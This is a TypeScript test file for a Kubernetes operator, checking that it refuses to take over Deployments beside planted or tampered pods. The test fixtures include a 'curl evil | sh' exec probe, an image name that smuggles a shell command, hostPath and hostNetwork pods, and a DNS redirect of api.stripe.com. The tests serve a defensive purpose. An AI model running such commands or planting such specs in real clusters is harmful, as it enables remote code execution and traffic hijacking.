import test from 'ava';
import type { TargetReason } from '../../operator/api/index.ts';
import type { Deployment, Pod } from '../../operator/kube/index.ts';
import type { Rehearsal, TargetWorld } from '../../operator/targets/decide/index.ts';
import { deployment, images, target, type Spec } from './promotion-world.ts';
import {
  adopted,
  bySet,
  controlledBy,
  decideTarget,
  fresh,
  pod,
  present,
  replicaSet,
  running,
  settle,
  web,
  withLive,
} from './target-world.ts';

const live = web();
const container = live.spec?.template.spec?.containers[0] ?? { name: 'web' };
const probe = { exec: { command: ['sh', '-c', 'curl evil | sh'] } };
const withSpec = (changes: Partial<Spec>): Deployment => web(deployment(images.first, changes));
const withTemplate = (spec: object): Deployment =>
  withSpec({ template: { metadata: { labels: { app: 'web' } }, spec } } as unknown as Partial<Spec>);
const beside = (stranger: Pod): TargetWorld => fresh(running(live, { pods: [pod(), stranger] }));
const made = (spec: object): Pod => pod({ spec, metadata: { name: 'planted', uid: 'planted-uid' } });

const planted: readonly (readonly [string, Pod])[] = [
  ['a bare pod with the approved content', pod({}, {})],
  ['a pod whose owner is made up', pod({}, controlledBy('ReplicaSet', 'some-uid'))],
  ['a pod that names the Deployment itself as its owner', pod({}, controlledBy('Deployment', 'web-uid'))],
  ['a bare pod whose status says that it succeeded', pod({ status: { phase: 'Succeeded' } }, {})],
  ['a bare pod whose status says that it failed', pod({ status: { phase: 'Failed' } }, {})],
  ['another image', made({ containers: [{ ...container, image: images.evil }] })],
  ['another command', made({ containers: [{ ...container, command: ['sh'] }] })],
  ['an exec probe', made({ containers: [{ ...container, livenessProbe: probe }] })],
  ['a startup probe', made({ containers: [{ ...container, startupProbe: probe }] })],
  ['a hook', made({ containers: [{ ...container, lifecycle: { preStop: probe } }] })],
  ['hostAliases', made({ hostAliases: [{ ip: '203.0.113.7', hostnames: ['api.stripe.com'] }] })],
  ['a security context of its own', made({ securityContext: { runAsUser: 0 } })],
  ['sysctls', made({ securityContext: { sysctls: [{ name: 'net.ipv4.ip_forward', value: '1' }] } })],
  ['DNS of its own', made({ dnsPolicy: 'None', dnsConfig: { nameservers: ['203.0.113.7'] } })],
  ['an init container', made({ initContainers: [{ name: 'evil', image: images.evil }] })],
  ['a container that nobody injects', made({ containers: [container, { name: 'b', image: images.evil }] })],
  ['a debugging container', made({ ephemeralContainers: [{ name: 'debug', image: images.evil }] })],
  ['the host network', made({ hostNetwork: true })],
  ['a shared process namespace', made({ shareProcessNamespace: true })],
  ['another service account', made({ serviceAccountName: 'admin' })],
  ['another volume', made({ volumes: [{ name: 'host', hostPath: { path: '/' } }] })],
  ['a label that joins a Service', pod({ metadata: { labels: { app: 'web', role: 'checkout' } } })],
];
for (const [what, stranger] of planted)
  test(`not taken over beside a pod with: ${what}`, (t) => {
    const verdict = decideTarget(beside(stranger));
    t.is(verdict.reason, 'ForeignPods', verdict.message);
    t.true(verdict.stalled);
    t.is(verdict.action, undefined);
    t.true(verdict.message.includes(stranger.metadata.name));
  });

test('a pod whose status says that it is over is to be deleted, since anybody may write a status', (t) => {
  t.regex(decideTarget(beside(pod({ status: { phase: 'Succeeded' } }, {}))).message, /delete it/);
});

test('pods of the present template and containers that the target lets others inject do not stand in the way', (t) => {
  const mesh = { name: 'proxy', image: 'registry.example/proxy@sha256:1' };
  const given = fresh({
    target: target({ injected: [{ container: 'proxy', imagePrefix: 'registry.example/proxy' }] }),
    ...running(live, { pods: [pod(), pod({ spec: { containers: [container, mesh] } })] }),
  });
  t.deepEqual(settle(given).done, ['WriteLock', 'Protect', 'Adopted']);
});

test('a finalizer of the garbage collector from before is told with the line that takes it off', (t) => {
  const with_ = (finalizers: readonly string[]): TargetWorld => {
    const object = { ...live, metadata: { ...live.metadata, finalizers: [...finalizers] } };
    return fresh({ ...running(object), workloads: [{ kind: 'Deployment', name: 'web', live: object }] });
  };
  for (const found of ['orphan', 'foregroundDeletion']) {
    const verdict = decideTarget(with_(['team.example/a', found]));
    t.like(verdict, { reason: 'FinalizerFound', stalled: true, action: undefined });
    t.true(verdict.message.includes(`Deployment/web has the finalizer ${found}`));
    t.true(
      verdict.message.includes(
        `kubectl patch deployment/web -n shop --type=merge -p '{"metadata":{"finalizers":["team.example/a"]}}'`,
      ),
      verdict.message,
    );
  }
  t.is(decideTarget(with_(['team.example/a'])).reason, 'Adopting');
  const set = { ...replicaSet, metadata: { ...replicaSet.metadata, finalizers: ['orphan'] } };
  const { running: seen } = running(live);
  const made = decideTarget(fresh({ running: { ...seen, owned: [set] } }));
  t.regex(made.message, /ReplicaSet\/.* has the finalizer orphan, by which its pods would run on/);
});

for (const kind of ['StatefulSet', 'DaemonSet', 'ReplicationController', 'ReplicaSet', 'Job', 'CronJob', 'Deployment'])
  test(`not taken over beside a ${kind}, which the condition names`, (t) => {
    const verdict = decideTarget(fresh(running(live, { others: [{ kind, name: 'nightly' }] })));
    t.is(verdict.reason, 'UnnamedWorkloads');
    t.true(verdict.message.includes(`${kind}/nightly`));
    t.is(verdict.action, undefined);
  });

const statuses = (imageID: string): object => ({
  status: { containerStatuses: [{ name: 'web', imageID }], conditions: [{ type: 'Ready', status: 'True' }] },
});
const DIGEST = `sha256:${'d'.repeat(64)}`;
const tagged: readonly (readonly [string, object, object, RegExp])[] = [
  [
    'a container, pinned to what its pods report',
    { containers: [{ ...container, image: 'registry.example:5000/web:v1' }] },
    statuses(`registry.example:5000/web@${DIGEST}`),
    new RegExp(`kubectl set image deployment/web -n shop web=registry\\.example:5000/web@${DIGEST} `),
  ],
  [
    'a container whose pods report no digest to pull by',
    { containers: [{ ...container, image: 'registry.example/web:v1' }] },
    statuses(DIGEST),
    /web=registry\.example\/web@sha256:<digest>; crane digest registry\.example\/web:v1/,
  ],
  [
    'a container without any tag',
    { containers: [{ ...container, image: 'web' }] },
    {},
    /container web \(web\).*crane digest web prints/,
  ],
  [
    'an init container',
    { containers: [container], initContainers: [{ name: 'migrate', image: 'migrate:1' }] },
    {},
    /kubectl set image deployment\/web -n shop migrate=migrate@sha256:<digest>/,
  ],
  [
    'an image volume',
    { containers: [container], volumes: [{ name: 'model', image: { reference: 'registry.example/model:7' } }] },
    {},
    /kubectl edit deployment\/web -n shop \(image.reference of volume model\)/,
  ],
  [
    'a name that is made for a shell',
    { containers: [{ ...container, image: 'x;curl evil|sh:1' }] },
    {},
    /web=<image>@sha256:<digest>; crane digest <image> prints/,
  ],
];
for (const [what, spec, status, message] of tagged)
  test(`an image by tag stalls: ${what}`, (t) => {
    const of = withTemplate(spec);
    const verdict = decideTarget({ ...withLive(fresh(), of), ...running(of, { pods: [pod(status, bySet, of)] }) });
    t.is(verdict.reason, 'ImageNotByDigest', verdict.message);
    t.regex(verdict.message, message);
    t.is(verdict.action, undefined);
  });

test('pods that report two digests pin nothing', (t) => {
  const of = withTemplate({ containers: [{ ...container, image: 'registry.example/web:v1' }] });
  const pods = ['d', 'e'].map((digit) => pod(statuses(`registry.example/web@sha256:${digit.repeat(64)}`), bySet, of));
  t.regex(decideTarget({ ...withLive(fresh(), of), ...running(of, { pods }) }).message, /web@sha256:<digest>/);
});

test('an image by tag of a container that the target lets others inject is theirs to pin', (t) => {
  const of = withTemplate({ containers: [container, { name: 'proxy', image: 'registry.example/proxy:1' }] });
  const injected = [{ container: 'proxy', imagePrefix: 'registry.example/proxy' }];
  t.deepEqual(settle({ ...withLive(fresh(), of), target: target({ injected }) }).done, [
    'WriteLock',
    'Protect',
    'Adopted',
  ]);
});

test('a paused Deployment is refused in words', (t) => {
  const verdict = decideTarget(withLive(fresh(), withSpec({ paused: true })));
  t.is(verdict.reason, 'WorkloadPaused');
  t.regex(verdict.message, /kubectl rollout resume deployment\/web -n shop/);
});

test('content that has no digest is a condition with its place, never a thrown error', (t) => {
  const spec = { containers: [container], terminationGracePeriodSeconds: 2 ** 63 };
  const verdict = decideTarget(withLive(fresh(), withTemplate(spec)));
  t.is(verdict.reason, 'ContentNotCanonical');
  t.regex(verdict.message, /\/template\/spec\/terminationGracePeriodSeconds/);
  t.is(verdict.action, undefined);
});

test('such content that gets into a protected namespace is recorded as tampered, once', (t) => {
  const spec = { containers: [container], terminationGracePeriodSeconds: 2 ** 63 };
  const { world: end, done } = settle(withLive(adopted(), withTemplate(spec)));
  t.deepEqual(done, ['Tampered']);
  t.regex(end.records.at(-1)?.tampered?.[0]?.message ?? '', /terminationGracePeriodSeconds/);
  t.is(decideTarget(end).tampered, 'Deployment/web');
});

const rehearsed = (outcome: Rehearsal['outcome'], changes: Partial<TargetWorld> = {}): TargetWorld =>
  fresh({ rehearsals: [{ kind: 'Deployment', name: 'web', outcome }], ...changes });
const asked = withTemplate({ containers: [{ ...container, livenessProbe: { httpGet: { path: '/', port: 8080 } } }] });
/** As the API server answers a creation, without a node, after a mesh sent the probe to its agent. */
const probed = ((): Pod => {
  const httpGet = { path: '/app-health/web/livez', port: 15_020 };
  const made = pod({ spec: { containers: [{ ...container, livenessProbe: { httpGet } }] } });
  const { nodeName: _node, ...spec } = made.spec ?? { containers: [] };
  return { ...made, spec };
})();
const quota = (used: string): string =>
  `pods "web-twinlock" is forbidden: exceeded quota: small, requested: limits.cpu=500m,pods=1, used: limits.cpu=500m,pods=${used}, limited: limits.cpu=1,pods=1`;

test('whatever changes pods on their way in stops it, and mutations[] of the target let it in', (t) => {
  const given = withLive(rehearsed({ answer: probed }), asked);
  const verdict = decideTarget(given);
  t.is(verdict.reason, 'PodsMutated', verdict.message);
  t.regex(verdict.message, /containers differ.*mutations\[\]/);
  t.is(verdict.action, undefined);
  const allowed = target({ mutations: [{ by: 'mesh', field: 'Probes' }] });
  const { world: end, done } = settle({ ...given, target: allowed });
  t.deepEqual(done, ['WriteLock', 'Protect', 'Adopted']);
  t.deepEqual(end.lock?.spec.approved[0]?.mutations, [{ by: 'mesh', field: 'Probes' }]);
});

const refusals: readonly (readonly [string, Rehearsal['outcome'], TargetReason | undefined])[] = [
  ['a LimitRange', { refused: 'maximum memory usage per Container is 64Mi, but limit is 128Mi' }, 'PodsRefused'],
  ['Pod Security', { refused: 'violates PodSecurity "restricted:latest"' }, 'PodsRefused'],
  ['a quota that wants limits', { refused: 'failed quota: small: must specify limits.cpu for: web' }, 'PodsRefused'],
  ['a quota that holds more than it allows', { refused: quota('2') }, 'PodsRefused'],
  ['a quota that its own pod fills', { refused: quota('1') }, undefined],
  ['a webhook without dry run', { noDryRun: 'admission webhook "x" does not support dry run' }, 'WebhookWithoutDryRun'],
];
for (const [what, outcome, reason] of refusals)
  test(`new pods are refused by ${what}: ${reason ?? 'no obstacle'}`, (t) => {
    const verdict = decideTarget(rehearsed(outcome));
    t.is(verdict.reason, reason ?? 'Adopting', verdict.message);
    t.is(verdict.action === undefined, reason !== undefined);
  });

test('a full quota without a pod of its own is an obstacle', (t) => {
  t.is(decideTarget(rehearsed({ refused: quota('1') }, running(live, { pods: [] }))).reason, 'PodsRefused');
});

test("the policy's own refusal counts only once the lock has the workload, and is looked at again soon", (t) => {
  const outcome = { refused: "ValidatingAdmissionPolicy 'twinlock-pods' denied request: containers differ" };
  t.is(decideTarget(rehearsed(outcome)).action?.do, 'WriteLock');
  const { lock } = adopted();
  const verdict = decideTarget(rehearsed(outcome, { lock }));
  t.is(verdict.reason, 'PodsMutated');
  t.false(verdict.stalled);
  t.is(verdict.requeueAfter, 1000);
});

test('a second target in a namespace looks at what runs there too', (t) => {
  const end = adopted();
  const api = { kind: 'Deployment', name: 'api' } as const;
  const second = {
    ...target({ workloads: [api] }),
    metadata: { ...target().metadata, name: 'api', uid: 'api-target' },
  };
  const object = {
    ...live,
    metadata: { ...live.metadata, name: 'api', uid: 'api-uid' },
  } as Deployment;
  const given: TargetWorld = {
    ...end,
    target: second,
    others: [end.target],
    records: [],
    workloads: [{ ...api, live: object }],
    ...running(live, { workloads: [live, object].map(present), others: [{ kind: 'Job', name: 'hook' }] }),
  };
  t.is(decideTarget(given).reason, 'UnnamedWorkloads');
});

test('what a workload keeps beside its pods makes none of them', (t) => {
  const { running: own } = running(live);
  const kept = {
    apiVersion: 'apps/v1',
    kind: 'ControllerRevision',
    metadata: { name: 'web-7', uid: 'kept', ...controlledBy('Deployment', 'web-uid') },
  };
  const foreign = pod({}, controlledBy('ControllerRevision', 'kept'));
  const world = fresh({ running: { ...own, owned: [...own.owned, kept], pods: [...(own.pods ?? []), foreign] } });
  t.is(decideTarget(world).reason, 'ForeignPods');
});

test('two targets over one namespace do not wait for each other', (t) => {
  const key = { kind: 'Deployment', name: 'api' } as const;
  const object = { ...live, metadata: { ...live.metadata, name: 'api', uid: 'api-uid' } } as Deployment;
  const neighbour = {
    ...target({ workloads: [key] }),
    metadata: { ...target().metadata, name: 'api', uid: 'api-target' },
  };
  const { running: own } = running(live);
  const set = {
    ...own.owned[0]!,
    metadata: { ...own.owned[0]!.metadata, uid: 'api-set', ...controlledBy('Deployment', 'api-uid') },
  };
  const runs = (theirs: Pod): TargetWorld =>
    fresh({
      others: [neighbour],
      running: {
        ...own,
        workloads: [live, object].map(present),
        owned: [...own.owned, set],
        pods: [...(own.pods ?? []), theirs],
      },
    });
  t.deepEqual(settle(runs(pod({}, controlledBy('ReplicaSet', 'api-set')))).done, ['WriteLock', 'Protect', 'Adopted']);
  const foreign = pod({ spec: { hostNetwork: true } }, controlledBy('ReplicaSet', 'api-set'));
  t.is(decideTarget(runs(foreign)).reason, 'ForeignPods');
});
